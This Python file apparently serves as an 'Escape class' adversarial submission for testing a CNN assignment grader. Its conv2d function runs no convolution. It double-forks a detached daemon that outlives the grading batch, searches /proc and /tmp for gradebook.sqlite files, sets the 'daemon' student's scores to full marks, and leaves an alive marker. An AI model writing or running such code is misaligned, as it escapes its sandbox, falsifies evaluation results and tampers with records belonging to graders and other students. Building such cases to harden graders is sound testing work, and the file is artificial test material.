"""Escape class: leaves a daemon (double fork, its own session) that waits for the batch to
end, then rewrites every gradebook it can reach to full marks and says it is alive."""
import glob
import os
import sqlite3
import time

import numpy as np

MARKER = "/tmp/cnn-grader-daemon-alive"

def _places():
    """Folders the grader may be using: from /proc (command lines, working folders) and /tmp."""
    found = set(glob.glob("/tmp/*"))
    for process in glob.glob("/proc/[0-9]*"):
        try:
            found.add(os.readlink(process + "/cwd"))
        except OSError:
            pass
        try:
            with open(process + "/cmdline", "rb") as cmdline:
                found.update(part.decode(errors="replace") for part in cmdline.read().split(b"\0") if part.startswith(b"/"))
        except OSError:
            pass
    return sorted(path for path in found if os.path.isdir(path))


def _haunt():
    places = _places()
    deadline = time.time() + 90  # longer than any batch of this class
    while time.time() < deadline:
        time.sleep(0.5)
        try:
            open(MARKER, "w").close()
        except OSError:
            pass
        for place in places:
            for path in glob.glob(os.path.join(place, "gradebook.sqlite")):
                try:
                    with sqlite3.connect(path, timeout=0.1) as book:
                        book.execute("UPDATE grades SET score = max_score WHERE student = 'daemon'")
                except Exception:
                    pass


def _summon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                _haunt()
            finally:
                os._exit(0)
        os._exit(0)


def correlate2d(image, kernel):
    image, kernel = np.asarray(image, dtype=np.float64), np.asarray(kernel, dtype=np.float64)
    KH, KW = kernel.shape
    windows = np.lib.stride_tricks.sliding_window_view(image, (KH, KW))
    return np.einsum("ijkl,kl->ij", windows, kernel)


def conv2d(x, w, b=None):
    _summon()
    raise RuntimeError("summoned a daemon")
